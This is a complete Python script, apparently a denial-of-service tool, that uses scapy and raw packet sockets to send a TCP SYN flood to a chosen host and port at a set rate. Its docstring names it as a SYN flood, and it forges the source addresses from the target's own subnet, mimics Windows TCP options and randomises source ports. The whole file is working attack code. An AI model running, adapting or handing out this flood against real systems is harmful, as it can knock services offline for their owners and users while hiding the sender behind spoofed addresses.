#!/usr/bin/python3
"""nots_flood.py IFACE SMAC DMAC DST PORT PPS SECONDS - a SYN flood of
clients without timestamps (Windows' options: MSS, NOP, WS 8, NOP, NOP,
SACK-permitted) to DST:PORT at about PPS, from spoofed sources of DST's
/24 (.100 to .199, hosts that do not exist) and random ports."""
import random
import socket
import sys
import time

from scapy.all import IP, TCP, Ether


def main(argv):
    if len(argv) != 8:
        print(__doc__, file=sys.stderr)
        return 2
    iface, smac, dmac, dst = argv[1:5]
    port, pps, seconds = int(argv[5]), int(argv[6]), float(argv[7])
    opts = [("MSS", 1460), ("NOP", None), ("WScale", 8), ("NOP", None), ("NOP", None),
            ("SAckOK", b"")]
    frames = []
    for i in range(256):
        src = dst.rsplit(".", 1)[0] + ".%d" % (100 + i % 100)
        sport = random.randrange(1024, 65536)
        frames.append(bytes(Ether(src=smac, dst=dmac) / IP(src=src, dst=dst) /
                            TCP(sport=sport, dport=port, flags="S", seq=sport * 7919,
                                options=opts)))
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    s.bind((iface, 0))
    sent, t0, burst = 0, time.time(), max(1, pps // 100)
    while time.time() - t0 < seconds:
        for _ in range(burst):
            s.send(frames[sent % 256])
            sent += 1
        ahead = sent / pps - (time.time() - t0)
        if ahead > 0:
            time.sleep(ahead)
    print("sent %d SYNs in %.1f s" % (sent, time.time() - t0))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
